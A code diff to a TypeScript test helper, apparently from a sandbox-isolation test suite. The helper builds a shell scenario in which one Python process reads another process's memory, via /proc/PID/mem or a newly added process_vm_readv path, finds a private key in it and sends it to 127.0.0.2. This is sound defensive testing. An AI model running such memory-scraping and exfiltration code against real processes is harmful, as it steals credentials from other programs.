@@ -92,25 +92,42 @@ s.close()
 /**
  * Another process' memory: a python3 "server" reads `file` and keeps it in
  * memory; a second python3, which never opens `file`, finds it in the
- * server's memory through /proc/PID/maps and /proc/PID/mem and sends it to
- * 127.0.0.2:PORT. Prints the number of bytes found and sent.
+ * server's memory (regions from /proc/PID/maps, read through /proc/PID/mem
+ * or with process_vm_readv) and sends it to 127.0.0.2:PORT. Prints the
+ * number of bytes found and sent.
  */
-export function procMemScenario(file: string, port: number): string {
+export function procMemScenario(file: string, port: number, via: 'proc-mem' | 'process_vm_readv' = 'proc-mem'): string {
+  const peek =
+    via === 'proc-mem'
+      ? ['mem = open(f"/proc/{pid}/mem", "rb", 0)', 'def peek(lo, n):', '    mem.seek(lo)', '    return mem.read(n)']
+      : [
+          'import ctypes',
+          'libc = ctypes.CDLL(None, use_errno=True)',
+          'class iovec(ctypes.Structure):',
+          '    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]',
+          'libc.process_vm_readv.restype = ctypes.c_ssize_t',
+          'def peek(lo, n):',
+          '    buf = ctypes.create_string_buffer(n)',
+          '    got = libc.process_vm_readv(pid, ctypes.byref(iovec(ctypes.cast(buf, ctypes.c_void_p), n)), 1, ctypes.byref(iovec(lo, n)), 1, 0)',
+          '    if got <= 0:',
+          '        raise OSError(ctypes.get_errno(), "process_vm_readv")',
+          '    return buf.raw[:got]',
+        ];
   return `python3 -c 'import time; d = open("${file}", "rb").read(); time.sleep(5)' &
 v=$!
 sleep 0.5
 python3 -c '
 import socket, sys
 pid, found = int(sys.argv[1]), b""
-with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
+${peek.join('\n')}
+with open(f"/proc/{pid}/maps") as maps:
     for line in maps:
         span, perms = line.split()[:2]
         if not perms.startswith("rw"):
             continue
         lo, hi = (int(x, 16) for x in span.split("-"))
         try:
-            mem.seek(lo)
-            chunk = mem.read(hi - lo)
+            chunk = peek(lo, hi - lo)
         except OSError:
             continue
         at = chunk.find(b"PRIVATE KEY-----\\n")
